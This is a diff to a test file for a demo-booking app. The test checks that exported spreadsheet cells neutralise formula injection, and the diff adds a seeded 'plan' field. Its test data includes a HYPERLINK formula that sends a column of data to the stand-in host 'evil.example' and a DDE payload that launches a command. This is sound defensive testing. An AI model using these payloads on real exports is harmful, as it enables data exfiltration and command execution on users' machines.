@@ -617,12 +617,19 @@ describe.each(engines)("demo booking on %s", (engine) => {
 
   describe("back office", () => {
     it("exports visitors' text as text: a company that is a formula does not run in a spreadsheet", async () => {
-      await start({ env: { RATE_LIMIT_SCALE: "0" } });
+      // Seeded: the plans, so the request can name one and the export shows it.
+      await start({ seed: true, env: { RATE_LIMIT_SCALE: "0" } });
       const formula = '=HYPERLINK("https://evil.example/?d="&D2:D500,"Open")';
       await verifyEmail("formula@example.com");
       const booked = await post(
         "/api/schedule-demo",
-        booking({ email: "formula@example.com", company: formula, name: "@SUM(1+1)", utmSource: "+cmd|' /C calc'!A0" }),
+        booking({
+          email: "formula@example.com",
+          company: formula,
+          name: "@SUM(1+1)",
+          utmSource: "+cmd|' /C calc'!A0",
+          plan: "gold",
+        }),
       );
       expect(booked.statusCode).toBe(201);
       // 20:00 UTC is 01:30 the next day in Kolkata: the file is named for India's day, by the clock.
@@ -642,6 +649,8 @@ describe.each(engines)("demo booking on %s", (engine) => {
       expect(cell("Name")).toBe("'@SUM(1+1)");
       expect(cell("UTM source")).toBe("'+cmd|' /C calc'!A0");
       expect(cell("Email")).toBe("formula@example.com");
+      // The plan a Get Started link chose, by name, for sales to follow up on.
+      expect(cell("Plan")).toBe("Gold");
     });
 
     it("lists requests for a signed-in admin only, with paging, sorting and a total, and deletes one", async () => {
